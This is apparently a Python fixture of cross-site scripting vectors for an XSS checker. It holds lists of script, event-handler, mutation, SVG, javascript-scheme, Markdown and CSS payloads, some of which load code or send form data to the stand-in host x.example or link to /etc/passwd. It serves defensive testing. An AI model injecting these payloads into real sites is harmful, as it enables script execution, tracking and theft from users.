"""Injection vectors for xss_check.py, by family. Each is typed into every
field a person or an overlay controls. One line each unless the family is
about line structure (comments, blocks, reference definitions).

`alert(...)`, `print()` and requests to *.example are what the browser hook
watches for; any of them happening is a finding.
"""

SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://x.example/a.js></SCRIPT>",
    "<img src=x onerror=alert(2)>",
    "<img src=x onerror=alert(3)//>",
    "<a href=\"https://x.example/\"><img src=x onerror=alert(4)//>",
    "<body onload=alert(5)>",
    "<details open ontoggle=alert(6)>",
    "<input autofocus onfocus=alert(7)>",
    "<video><source onerror=alert(8)></video>",
    "<iframe srcdoc=\"<script>alert(9)</script>\"></iframe>",
    "<iframe src=\"javascript:alert(10)\"></iframe>",
    "<object data=\"https://x.example/o.swf\"></object>",
    "<embed src=\"https://x.example/e.swf\">",
    "<div style=\"width:expression(alert(11))\">x</div>",
    "\"><script>alert(12)</script>",
    "'\"><img src=x onerror=alert(13)>",
    "</textarea><script>alert(14)</script>",
    "</title><script>alert(15)</script>",
    "</style><script>alert(16)</script>",
    "</script><script>alert(17)</script>",
]

MUTATION = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert(20)>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(21)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(22)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(23)>",
    "<svg><style><img src=x onerror=alert(24)></style></svg>",
    "<listing>&lt;img src=x onerror=alert(25)&gt;</listing>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(26)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(27)>\"></noembed>",
    "<select><template><style><img src=x onerror=alert(28)>",
    "<table><caption><svg><desc><img src=x onerror=alert(29)>",
]

SVG_MATHML = [
    "<svg onload=alert(30)>",
    "<svg><animate onbegin=alert(31) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(32)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(33)'/></svg>#x\"/></svg>",
    "<svg><foreignObject><iframe src=\"https://x.example/\"></iframe></foreignObject></svg>",
    "<svg><script>alert&#40;34&#41;</script></svg>",
    "<math href=\"javascript:alert(35)\">click</math>",
    "<math><maction actiontype=statusline xlink:href=\"javascript:alert(36)\">x</maction></math>",
    "<svg><set attributeName=onmouseover to=alert(37)>",
    "<svg><image href=\"https://x.example/p.png\"/></svg>",
]

SCHEMES = [
    "[a](javascript:alert(40))",
    "[a](JaVaScRiPt:alert(41))",
    "[a](&#106;avascript:alert(42))",
    "[a](&#x6A;&#x61;vascript:alert(43))",
    "[a](java&#x09;script:alert(44))",
    "[a](java&#10;script:alert(45))",
    "[a]( javascript:alert(46))",
    "[a](javascript&colon;alert(47))",
    "[a](%6Aavascript:alert(48))",
    "[a](vbscript:msgbox(49))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCg1MCk8L3NjcmlwdD4=)",
    "[a](search-ms:query=x&crumb=location:\\\\x.example\\s)",
    "[a](vscode://file/etc/passwd)",
    "[a](intent://x.example#Intent;scheme=https;end)",
    "[a](ftp://x.example/f)",
    "[a](file:///etc/passwd)",
    "[a](ms-settings:privacy)",
    "<vscode:open?x=1>",
    "<javascript:alert(51)>",
    "<a href=\"jav&#x0A;ascript:alert(52)\">x</a>",
    "<a href=\"&#14;javascript:alert(53)\">x</a>",
    "![i](javascript:alert(54))",
]

AUTOLINK = [
    "https://x.example/\"><img src=x onerror=alert(60)>",
    "www.x.example\\<img src=x onerror=alert(61)>",
    "https://x.example/`<img src=x onerror=alert(62)>`",
    "ftp://x.example/files",
    "xmpp:someone@x.example",
    "mailto:someone@x.example?subject=<img src=x onerror=alert(63)>",
    "http://x.example/<svg onload=alert(64)>",
    "https://x.example/\\<b>\\</b>",
    "WWW.X.EXAMPLE/<img src=x onerror=alert(65)>",
    "someone@x.example<img src=x onerror=alert(66)>",
]

REFERENCES = [
    "[x]\n\n[x]: javascript:alert(70)",
    "[x][y]\n\n[y]: vscode://file/etc/passwd",
    "[Title](#card-x)\n\n[#card-x]: javascript:alert(71)",
    "[x]: <javascript:alert(72)> \"t\"\n\n[x]",
    "![pixel][p]\n\n[p]: https://x.example/pixel.png",
    "[x]: https://x.example/\n\n[x]",
    "[a]: data:text/html,<script>alert(73)</script>\n\n[a][]",
]

COMMENTS_CDATA = [
    "<!--><img src=x onerror=alert(80)>-->",
    "<!---><img src=x onerror=alert(81)>-->",
    "<!-- --!><img src=x onerror=alert(82)> -->",
    "<!-- a --><img src=x onerror=alert(83)>",
    "<!--\n<img src=x onerror=alert(84)>\n-->",
    "<![CDATA[<img src=x onerror=alert(85)>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(86)>",
    "<!DOCTYPE html><img src=x onerror=alert(87)>",
    "<!--[if IE]><img src=x onerror=alert(88)><![endif]-->",
    "<! foo ><img src=x onerror=alert(89)>",
]

CSS = [
    "<style>@import 'https://x.example/a.css';</style>",
    "<style>body{background:url(https://x.example/p.png)}</style>",
    "<div style=\"background:url(https://x.example/p.png)\">x</div>",
    "<style>@\\69mport 'https://x.example/b.css';</style>",
    "<link rel=stylesheet href=https://x.example/c.css>",
    "<style>*{behavior:url(x.htc)}</style>",
]

PAGE = [
    "<meta http-equiv=\"refresh\" content=\"0;url=https://x.example/\">",
    "<META HTTP-EQUIV=REFRESH CONTENT=\"0; URL=javascript:alert(90)\">",
    "<base href=\"https://x.example/\">",
    "<base target=_blank href=//x.example/>",
    "<form action=\"https://x.example/\"><button>go</button></form>",
    "<button formaction=\"javascript:alert(91)\">go</button>",
    "<input type=image src=https://x.example/i.png>",
    "<img srcset=\"https://x.example/a.png 1x, https://x.example/b.png 2x\">",
    "<picture><source srcset=https://x.example/p.png><img src=data:,></picture>",
    "![track](https://x.example/t.png)",
    "![svg](data:image/svg+xml,<svg/onload=alert(92)>)",
    "<img src=\"https://x.example/t.png\" loading=lazy>",
    "<audio src=https://x.example/a.mp3 autoplay>",
    "<link rel=prefetch href=https://x.example/>",
    "<a ping=https://x.example/ href=https://x.example/>x</a>",
]

MARKDOWN = [
    "*<b>x</b>*",
    "| <img src=x onerror=alert(100)> | b |\n| - | - |\n| c | [d](javascript:alert(101)) |",
    "- [ ] <img src=x onerror=alert(102)>",
    "> <script>alert(103)</script>",
    "`<code>` and <i>x</i>",
    "~~<s>x</s>~~",
    "\\<img src=x onerror=alert(104)>",
    "\\\\<img src=x onerror=alert(105)>",
    "&lt;img src=x onerror=alert(106)&gt;",
    "&#60;img src=x onerror=alert(107)&#62;",
    "<div>\n<img src=x onerror=alert(108)>\n</div>",
    "    <img src=x onerror=alert(109)>",
    "<details>\n\n[x](javascript:alert(110))\n\n</details>",
]

STYLESHEETS = [
    "body{color:#222}\n</style><meta http-equiv=refresh content=\"0;url=https://x.example/\">",
    "</STYLE><script>alert(120)</script>",
    "<!-- body{} -->",
    "@import url(https://x.example/a.css);",
    "@\\69mport 'https://x.example/a.css';",
    "body{background:url(https://x.example/p.png)}",
    "body{background:u\\72l(//x.example/p.png)}",
    "@font-face{font-family:x;src:url(https://x.example/f.woff)}",
    "body{background:image-set('https://x.example/p.png' 1x)}",
    "a{width:expression(alert(121))}",
]

ALL = SCRIPT + MUTATION + SVG_MATHML + SCHEMES + AUTOLINK + REFERENCES + COMMENTS_CDATA + CSS + PAGE + MARKDOWN
ONE_LINE = [v for v in ALL if "\n" not in v]

# Inserted into every page template of a --templates overlay (after <body>).
TEMPLATES = [
    "<meta http-equiv=\"refresh\" content=\"0;url=https://x.example/\">",
    "<script>alert(130)</script>",
    "<base href=\"https://x.example/\">",
    "<img src=\"https://x.example/pixel.png\" alt=\"\">",
    "<iframe src=\"https://x.example/\"></iframe>",
    "<a href=\"javascript:alert(131)\">x</a>",
    "<p onmouseover=\"alert(132)\">x</p>",
    "<link rel=\"stylesheet\" href=\"https://x.example/a.css\">",
    "<form action=\"https://x.example/collect\"><button>send</button></form>",
    "<p style=\"background:url(https://x.example/p.png)\">x</p>",
]
